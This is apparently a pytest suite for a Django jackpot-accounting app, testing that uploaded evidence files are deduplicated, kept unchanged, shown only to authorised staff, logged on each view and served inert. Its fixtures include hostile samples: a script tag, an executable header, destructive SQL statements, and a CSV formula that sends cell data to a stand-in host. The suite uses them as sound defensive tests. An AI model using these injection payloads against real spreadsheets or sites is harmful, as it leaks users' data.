"""Evidence is kept with what it proves: once, for good, shown to who may read the request, every look on record."""

from __future__ import annotations

import base64
import hashlib
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, connection, transaction
from django.test import Client

from accounting.reports.queries.asking import clock_of
from accounting.reports.queries.catalogue import REPORTS
from accounting.reports.queries.waiting import waiting_now
from accounting.reports.rules.asking import read_question
from jackpot.adjusting.models import Adjustment
from jackpot.evidence.actions import keep
from jackpot.evidence.actions.keep import add_evidence, checked_upload
from jackpot.evidence.models import EvidenceFile, RequestEvidence
from jackpot.evidence.rules.evidence_file import name_to_take
from jackpot.people.models import Operator
from jackpot.property.models.property import Property
from jackpot.refusals import Refused
from jackpot.trail.models import Trail
from tests.builders import a_jackpot, a_person, a_property
from tests.jackpot.books.api_scene import signed_in
from tests.scenes_adjusting import approved, asked

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.7\n1 0 obj"
DIGEST = hashlib.sha256(PDF).hexdigest()


def a_request(**more: Any) -> Adjustment:
    return asked("adjust", a_jackpot(), amount="15.00", by="asker", **more)


def where(row: Adjustment, tail: str = "") -> str:
    return f"/office/requests/{row.pk}/evidence/{tail}"


def door(row: Adjustment, tail: str = "") -> str:
    return f"/api/v1/requests/{row.pk}/evidence/{tail}"


def asker(username: str = "adder") -> Client:
    return signed_in("adjust", "read_books", username=username)


def test_a_form_asks_with_its_file_which_is_kept_and_sealed() -> None:
    a_jackpot()
    told = {"kind": "adjust", "jackpot": "GRAND", "amount": "15.00", "account": "meter", "ground": "reading",
            "reason": "counted short", "evidence": "count sheet 12"}  # fmt: skip
    client = asker()
    client.post("/office/adjustments/new/", {**told, "file": SimpleUploadedFile("C:\\sheet 12.pdf", PDF)})
    row = Adjustment.objects.get()
    use = RequestEvidence.objects.get()
    assert (row.file_name, row.file_sha256, use.request_id) == ("sheet 12.pdf", DIGEST, row.pk)
    assert (bytes(use.file.content), use.file.kind, use.added_by_name) == (PDF, "pdf", "Test Adder")
    page = client.get(f"/office/requests/{row.pk}/").content.decode()
    for words in ("sheet 12.pdf", DIGEST, "16 bytes", "Test Adder", "sealed with the request", where(row, DIGEST)):
        assert words in page


def test_what_is_no_evidence_is_refused_beside_the_form() -> None:
    a_jackpot()
    told = {
        "kind": "adjust",
        "jackpot": "GRAND",
        "amount": "15.00",
        "ground": "reading",
        "reason": "x",
        "evidence": "y",
    }
    answer = asker().post("/office/adjustments/new/", {**told, "file": SimpleUploadedFile("tool.pdf", b"MZ\x90\x00")})
    assert (answer.status_code, Adjustment.objects.count()) == (400, 0)
    assert "tool.pdf is no PDF, PNG, JPEG or plain text" in answer.content.decode()


def test_the_same_content_is_kept_once_and_each_use_has_its_name() -> None:
    one = a_request()
    two = asked("suspend", a_jackpot("OTHER"), by="asker")
    for row, name in ((one, "a.pdf"), (two, "b.pdf"), (one, "again.pdf")):
        add_evidence(request=row, upload=checked_upload(name, PDF), by=a_person(f"adder-{name}"[:20], may=("adjust",)))
    assert EvidenceFile.objects.count() == 1
    assert list(RequestEvidence.objects.values_list("request_id", "name")) == [(one.pk, "a.pdf"), (two.pk, "b.pdf")]


def test_what_is_kept_stays_as_it_is_whoever_asks_the_database() -> None:
    row = a_request()
    add_evidence(request=row, upload=checked_upload("a.pdf", PDF), by=a_person("adder", may=("adjust",)))
    for change in (
        "UPDATE jackpot_evidencefile SET kind = 'text'", "DELETE FROM jackpot_requestevidence",
        "TRUNCATE jackpot_evidencefile CASCADE", "UPDATE jackpot_requestevidence SET name = 'other.pdf'",
    ):  # fmt: skip
        with pytest.raises(DatabaseError, match=r"written here stays|permission denied"), transaction.atomic():
            connection.cursor().execute(change)
    with pytest.raises(DatabaseError, match="evidence_is_what_its_digest_says"), transaction.atomic():
        EvidenceFile.objects.create(sha256="0" * 64, kind="pdf", size=3, content=b"abc")


def test_it_goes_out_inert_and_every_look_is_on_record() -> None:
    row = a_request()
    page = checked_upload("page.html", b"<script>1</script>")
    add_evidence(request=row, upload=page, by=a_person("adder", may=("adjust",)))
    digest = RequestEvidence.objects.get().file_id
    answer = signed_in("read_books", username="auditor").get(where(row, f"{digest}/"))
    assert answer.content == b"<script>1</script>"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="page.html.txt"'
    assert answer.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    look = Trail.objects.get(act="look_at_evidence")
    assert (look.actor, look.subject, look.details["sha256"]) == ("Test Auditor", f"adjustment {row.pk}", digest)


def test_who_may_not_read_the_request_gets_nothing_and_leaves_no_look() -> None:
    row = a_request()
    add_evidence(request=row, upload=checked_upload("a.pdf", PDF), by=a_person("adder", may=("adjust",)))
    stranger = signed_in("adjust", "read_books", username="stranger", premises=a_property("OTHER"))
    people = signed_in("people", username="people")
    for client, status in ((stranger, 404), (people, 404), (signed_in("see", username="eye"), 403)):
        assert client.get(where(row, f"{DIGEST}/")).status_code == status
        assert client.get(door(row, f"{DIGEST}/")).status_code == status
    assert asker("other").get(where(row, f"{'0' * 64}/")).status_code == 404
    assert not Trail.objects.filter(act="look_at_evidence").exists()


def test_programs_add_it_as_base64_or_as_a_form_and_take_it() -> None:
    row, client = a_request(), asker()
    told = {"name": "sheet.pdf", "content": base64.b64encode(PDF).decode()}
    answer = client.post(door(row), told, content_type="application/json")
    assert (answer.status_code, answer.json()["evidence"]["sha256"]) == (201, DIGEST)
    picture = SimpleUploadedFile("spot.png", b"\x89PNG\r\n\x1a\n" + bytes(70_000))
    assert client.post(door(row), {"file": picture}).json()["evidence"]["size"] == 70_008
    listed = client.get(door(row)).json()["evidence"]
    assert [(each["name"], each["kind"], each["sealed"]) for each in listed] == [
        ("sheet.pdf", "pdf", False), ("spot.png", "png", False),
    ]  # fmt: skip
    assert client.get(door(row, f"{DIGEST}/")).content == PDF
    refused = client.post(door(row), {"name": "x", "content": "not base64!"}, content_type="application/json")
    assert (refused.status_code, refused.json()["code"]) == (400, "content")
    empty = client.post(door(row), {"name": "x.pdf", "content": "===="}, content_type="application/json")
    assert empty.status_code == 400


def test_a_digest_that_was_asked_with_finds_its_file_later() -> None:
    row, client = a_request(file_name="clip.pdf", file_sha256=DIGEST), asker()
    page = client.get(f"/office/requests/{row.pk}/").content.decode()
    assert "The file itself is not kept here" in page
    client.post(where(row), {"file": SimpleUploadedFile("clip.pdf", PDF)})
    page = client.get(f"/office/requests/{row.pk}/").content.decode()
    assert "sealed with the request" in page
    assert "The file itself is not kept here" not in page


def test_where_the_house_asks_for_a_file_nobody_signs_without_and_the_morning_counts_it() -> None:
    row, house = a_request(), Property.objects.get()
    question = read_question(REPORTS["waiting"], {}, clock_of(house))
    assert "Evidence without a file" not in [each.what for each in waiting_now(question)]
    Property.objects.update(evidence_files=True)
    assert ("Evidence without a file", 1) in [(each.what, each.count) for each in waiting_now(question)]
    with pytest.raises(Refused, match="this house asks for one"):
        approved(row)
    add_evidence(request=row, upload=checked_upload("a.pdf", PDF), by=a_person("adder", may=("adjust",)))
    assert "Evidence without a file" not in [each.what for each in waiting_now(question)]
    assert approved(row).state == "in_force"


def test_nothing_is_added_to_what_is_over_nor_by_who_has_no_business_with_it() -> None:
    row = a_request()
    with pytest.raises(Refused, match="may not add evidence here"):
        add_evidence(request=row, upload=checked_upload("a.pdf", PDF), by=a_person("cage", may=("pay",)))
    Adjustment.objects.filter(pk=row.pk).update(state="withdrawn")
    with pytest.raises(Refused, match="nothing is added to it"):
        add_evidence(request=row, upload=checked_upload("a.pdf", PDF), by=a_person("adder", may=("adjust",)))


def test_nobody_alone_fills_the_disk_of_the_books(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(keep, "MOST_A_DAY", 2 * 1024 * 1024)
    row, adder, other = a_request(), a_person("filler", may=("adjust",)), a_person("other", may=("adjust",))

    def add(number: int, by: Operator) -> None:
        add_evidence(request=row, upload=checked_upload(f"{number}.pdf", PDF + bytes([number]) * 2**20), by=by)

    add(1, adder)
    with pytest.raises(
        Refused, match=r"Test Filler added 1.1 MB of evidence since yesterday, and one person adds 2.0 MB"
    ):
        add(2, adder)
    add(2, other)
    assert RequestEvidence.objects.count() == 2


def test_text_is_never_opened_by_a_spreadsheet() -> None:
    upload = checked_upload("counts.csv", b'=HYPERLINK("https://mine.example/"&A1),12')
    assert (upload.kind, name_to_take(upload.name, upload.kind)) == ("text", "counts.csv.txt")
